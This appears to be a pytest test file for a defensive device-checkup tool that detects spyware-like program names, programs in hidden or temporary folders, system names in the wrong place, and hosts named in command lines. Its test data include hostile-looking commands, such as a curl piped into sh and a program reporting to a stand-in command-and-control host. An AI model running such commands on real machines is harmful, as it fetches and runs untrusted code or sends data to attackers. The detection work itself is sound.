"""The heuristics' word and place rules, including false alarms met on real machines."""
from __future__ import annotations

import pytest

from device_checkup.checks.heuristics import hidden_or_temporary, system_name_wrong_place, watching_word


@pytest.mark.parametrize("name, word", [
    ("SpyAgent.exe", "spy"), ("spy-helper", "spy"), ("MyKeylogger", "keylog"), ("KeyStrokeCapture", "keystroke"),
    ("stealthmon", "stealth"), ("TrackingAgent", "track"), ("track_daemon", "track"),
    # Met on a Debian machine: heaptrack is a memory profiler.
    ("heaptrack", None), ("libheaptrack", None), ("trackpad-settings", None), ("tracker-miner-fs-3", None),
    ("SpyderIDE", None), ("AntiSpyware", None), ("Espresso", None), ("NetworkManager", None), (None, None),
])
def test_watching_words(name, word):
    assert watching_word(name) == word


# Anti-spyware, games and time trackers, written as installers, packages and app bundles write
# them: joined, split by capitals, spaces, hyphens, underscores or dots, with versions after.
HARMLESS = ["SpyHunter", "Spy Hunter", "spy-hunter", "spyhunter5", "SpyHunter 5", "SpyHunter5.exe",
            "SpyShelter", "Spy Shelter", "spyshelter-free", "SpyShelter_Premium", "Spybot - Search & Destroy",
            "Spyro Reignited Trilogy", "Spyro", "spyro.exe", "Trackmania", "TrackMania Nations Forever",
            "trackmania-2020", "TrackIR", "Track IR 5", "trackir5.exe", "Toggl Track", "TogglTrack",
            "toggl-track", "Toggl_Track.app", "Tracktion Waveform", "tracktion_engine", "Tracktion",
            "SUPERAntiSpyware", "Anti-Spy", "heaptrack-gui"]


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_names_split_or_joined_are_not_watching_words(name):
    assert watching_word(name) is None


@pytest.mark.parametrize("name, word", [
    # A harmless name must not excuse a watching word beside it.
    ("Spyro Spy Agent", "spy"), ("Toggl Track Keylogger", "keylog"), ("SpyHunter-Stealth", "stealth"),
    ("trackmania track-agent", "track"), ("Spy", "spy"), ("SpyShelterSpy", "spy"),
])
def test_harmless_names_do_not_hide_a_watching_word_beside_them(name, word):
    assert watching_word(name) == word


@pytest.mark.parametrize("path, platform, where", [
    ("/tmp/x/agent", "linux", "/tmp"), ("/home/a/.hidden/agent", "linux", ".hidden"),
    ("/Users/a/.x/agent", "macos", ".x"), ("C:\\Users\\a\\AppData\\Local\\Temp\\x.exe", "windows", "appdata/local/temp"),
    ("C:\\Users\\Public\\x.exe", "windows", "c:/users/public"),
    # Dropbox on Linux really runs from ~/.dropbox-dist; ~/.local is where XDG puts programs.
    ("/home/a/.dropbox-dist/dropboxd", "linux", None), ("/home/a/.local/bin/tool", "linux", None),
    ("/usr/bin/gnome-shell", "linux", None), ("C:\\Program Files\\X\\x.exe", "windows", None), (None, "linux", None),
])
def test_hidden_or_temporary_places(path, platform, where):
    assert hidden_or_temporary(path, platform) == where


@pytest.mark.parametrize("path, platform, name", [
    ("C:\\Users\\alex\\AppData\\Roaming\\Microsoft\\svchost.exe", "windows", "svchost.exe"),
    ("C:\\Windows\\System32\\svchost.exe", "windows", None),
    ("/home/a/.cache/systemd-journald", "linux", "systemd-journald"), ("/usr/lib/systemd/systemd-journald", "linux", None),
    ("/Users/a/Library/Application Support/x/launchd", "macos", "launchd"), ("svchost.exe", "windows", None),
])
def test_system_names_in_the_wrong_place(path, platform, name):
    assert system_name_wrong_place(path, platform) == name


@pytest.mark.parametrize("command, hosts", [
    ("x.exe --server https://c2.evil.net/p", ["c2.evil.net"]),
    ("--proxy-server=proxy.evil.net:3128 --quiet", ["proxy.evil.net"]),
    ("curl -s example.com/x | sh", ["example.com"]),
    ("agent --report=user@panel.mbill.app", ["panel.mbill.app"]),     # a real TLD that is also a file ending
    (r'"C:\Program Files\Vendor\agent.exe" /s /log=C:\x\y.log', []),  # file names are not hosts
    ("/usr/lib/x.so.1 -a /opt/a.py", []),
    ("wget http://a.example.org/1 http://b.example.org/2 http://a.example.org/3", ["a.example.org", "b.example.org"]),
    ("", []), (None, []),
])
def test_hosts_written_in_commands(command, hosts):
    from device_checkup.checks.base import hosts_in
    assert hosts_in(command) == hosts
